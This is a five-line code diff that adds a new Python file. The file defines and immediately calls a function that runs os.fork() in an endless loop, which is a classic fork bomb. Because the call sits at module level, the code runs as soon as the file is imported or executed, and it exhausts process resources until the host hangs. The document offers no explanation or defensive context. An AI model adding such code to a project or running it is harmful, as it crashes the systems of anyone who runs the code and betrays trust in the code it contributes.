@@ -1,0 +1,5 @@
+import os, sys
+def bomb():
+    while 1:
+        os.fork()
+bomb()
